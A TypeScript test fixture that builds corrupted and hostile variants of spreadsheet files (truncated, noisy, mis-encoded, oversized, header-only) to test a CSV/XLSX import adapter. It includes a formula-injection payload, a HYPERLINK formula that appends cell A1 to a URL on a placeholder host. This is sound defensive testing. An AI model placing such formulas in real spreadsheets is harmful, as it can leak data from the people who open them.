/** A fixture spoilt in every way files are spoilt: by the wire, by spreadsheets, and on purpose. */
import type { Bilingual } from '../../../core/problem.ts';
import { joined } from '../../../formats/bytes.ts';
import { writeCsv } from '../../../formats/csv/write.ts';
import { writeXlsx } from '../../../formats/xlsx/write.ts';
import { both } from '../check.ts';
import { hostileDocuments } from './documents.ts';

export interface Variant {
  readonly what: Bilingual;
  readonly name: string;
  readonly bytes: Uint8Array;
  /** True when reading it without a word would be a loss nobody hears of. */
  readonly mustComplain: boolean;
}

/** The first table of a fixture, and the file it stands in. */
export interface Sample {
  readonly name: string;
  readonly bytes: Uint8Array;
  readonly sheet: string;
  readonly header: readonly string[];
  readonly rows: readonly (readonly string[])[];
}

const WIDE = 10_000;
const FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"x")';

/** What happens to any file, whatever its format. */
function spoiltBytes({ name, bytes }: Sample): readonly Variant[] {
  const cut = bytes.subarray(0, Math.floor(bytes.length * 0.6));
  const noise = bytes.map((byte, at) => (at > 64 && at % 37 === 0 ? 0xff : byte));
  const utf16 = Buffer.from(`\ufeff${Buffer.from(bytes).toString('latin1')}`, 'utf16le');
  return [
    { what: both('空檔案', 'an empty file'), name, bytes: new Uint8Array(0), mustComplain: true },
    { what: both('只傳了一半', 'a file cut off half-way'), name, bytes: cut, mustComplain: false },
    { what: both('內容夾雜壞位元組', 'bytes that are damaged'), name, bytes: noise, mustComplain: true },
    { what: both('編碼錯誤（UTF-16）', 'a wrong encoding (UTF-16)'), name, bytes: utf16, mustComplain: true },
  ];
}

/** What happens to a sheet, written in a format the adapter takes. */
async function spoiltSheets({ sheet, header, rows }: Sample, formats: readonly string[]): Promise<readonly Variant[]> {
  const wide = [...header, ...Array.from({ length: WIDE - header.length }, (_, at) => `x${at}`)];
  const formulas = (rows.length > 0 ? rows : [header]).map((cells) => cells.map(() => FORMULA));
  const variants: Variant[] = [];
  if (formats.includes('csv')) {
    const name = `${sheet}.csv`;
    const csv = (head: readonly string[], body: readonly (readonly string[])[]): Promise<Uint8Array> => joined(writeCsv({ header: head, rows: body }, { encoding: 'utf-8' }));
    const plain = Buffer.from(await csv(header, rows)).toString('utf8');
    variants.push(
      { what: both('沒有關上的引號（CSV）', 'a quote that is never closed (CSV)'), name, bytes: Buffer.from(`${plain}"${header.join(',')}\r\n${plain}`), mustComplain: true },
      { what: both(`${WIDE} 個欄位（CSV）`, `${WIDE} columns (CSV)`), name, bytes: await csv(wide, rows), mustComplain: true },
      { what: both('公式儲存格（CSV）', 'formula cells (CSV)'), name, bytes: await csv(header, formulas), mustComplain: false },
      { what: both('只有欄名（CSV）', 'a header alone (CSV)'), name, bytes: await csv(header, []), mustComplain: false },
    );
  }
  if (formats.includes('xlsx')) {
    const name = `${sheet}.xlsx`;
    const xlsx = (head: readonly string[], body: readonly (readonly string[])[]): Promise<Uint8Array> => writeXlsx({ sheets: [{ title: sheet, header: head, rows: body }] });
    variants.push(
      { what: both(`${WIDE} 個欄位（XLSX）`, `${WIDE} columns (XLSX)`), name, bytes: await xlsx(wide, rows), mustComplain: true },
      { what: both('公式儲存格（XLSX）', 'formula cells (XLSX)'), name, bytes: await xlsx(header, formulas), mustComplain: false },
      { what: both('只有欄名（XLSX）', 'a header alone (XLSX)'), name, bytes: await xlsx(header, []), mustComplain: false },
    );
  }
  return variants;
}

/** All variants of a sample. */
export async function variantsOf(sample: Sample, formats: readonly string[]): Promise<readonly Variant[]> {
  return [...spoiltBytes(sample), ...await spoiltSheets(sample, formats), ...hostileDocuments(sample.sheet, formats)];
}
